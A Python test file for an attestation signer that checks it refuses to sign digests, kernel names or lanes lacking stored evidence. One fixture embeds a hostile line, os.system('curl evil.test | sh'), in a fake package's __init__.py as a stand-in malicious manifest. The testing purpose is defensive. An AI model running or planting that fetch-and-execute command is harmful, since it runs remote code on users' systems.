"""T32: a caller asks the signer for bytes or a digest that it has no evidence for."""

from __future__ import annotations

import inspect
from dataclasses import replace

import pytest

from kgate_core.errors import Conflict, NotFound
from kgate_core.evidence import Outcome, RuleResult
from kgate_core.kernel import KernelId, Revision
from kgate_signer.attest import Attestor, StoredEvidence
from tests.trustkit import EXPERIMENTAL, KERNEL, NOW, PRODUCTION, SITE, make_trust, manifest_of
from tests.unit.signer.test_attest import ALLOWED, EVIDENCE

KIT = make_trust()
MANIFEST = manifest_of()
EVIL = manifest_of({"__init__.py": b"import os; os.system('curl evil.test | sh')"})


class Catalog:
    """What was really seen and decided: one variant in one lane."""

    def __init__(self, evidence: StoredEvidence) -> None:
        self.rows = {(evidence.kernel, evidence.lane): evidence}

    def evidence(self, kernel: KernelId, lane: str) -> StoredEvidence | None:
        return self.rows.get((kernel, lane))


ATTESTOR = Attestor(SITE, KIT.admit, Catalog(EVIDENCE))


def test_what_was_decided_is_signed() -> None:
    assert ATTESTOR.attest(KERNEL, EXPERIMENTAL, MANIFEST.digest, NOW).vsa


def test_a_digest_without_evidence_is_not_signed() -> None:
    with pytest.raises(Conflict, match=f"is about {MANIFEST.digest}, not {EVIL.digest}"):
        ATTESTOR.attest(KERNEL, EXPERIMENTAL, EVIL.digest, NOW)
    with pytest.raises(Conflict):
        ATTESTOR.approve(KERNEL, EXPERIMENTAL, EVIL.digest, (), NOW)


@pytest.mark.parametrize(
    ("kernel", "lane"),
    [
        (replace(KERNEL, revision=Revision("b" * 40)), EXPERIMENTAL),
        (replace(KERNEL, origin="https://elsewhere.test"), EXPERIMENTAL),
        (replace(KERNEL, variant="torch-cuda"), EXPERIMENTAL),
        (KERNEL, PRODUCTION),
    ],
)
def test_another_name_or_lane_for_known_bytes_is_not_signed(kernel: KernelId, lane: str) -> None:
    with pytest.raises(NotFound, match="there is no evidence"):
        ATTESTOR.attest(kernel, lane, MANIFEST.digest, NOW)


def test_a_denied_variant_is_not_signed_however_often_one_asks() -> None:
    denied = replace(ALLOWED, results=(RuleResult("signed", Outcome.DENY, "no signature"),))
    attestor = Attestor(SITE, KIT.admit, Catalog(replace(EVIDENCE, decision=denied)))
    for _ in range(2):
        with pytest.raises(Conflict, match="was not allowed: signed"):
            attestor.attest(KERNEL, EXPERIMENTAL, MANIFEST.digest, NOW)
        with pytest.raises(Conflict, match="was not allowed: signed"):
            attestor.approve(KERNEL, EXPERIMENTAL, MANIFEST.digest, (), NOW)


def test_no_caller_can_hand_in_what_is_to_be_signed() -> None:
    allowed = {"KernelId", "str", "Digest", "datetime", "tuple[Digest, ...]"}
    for name, method in inspect.getmembers(Attestor, inspect.isfunction):
        if name.startswith("_"):
            continue
        parameters = list(inspect.signature(method).parameters.values())[1:]
        assert {parameter.annotation for parameter in parameters} <= allowed, name
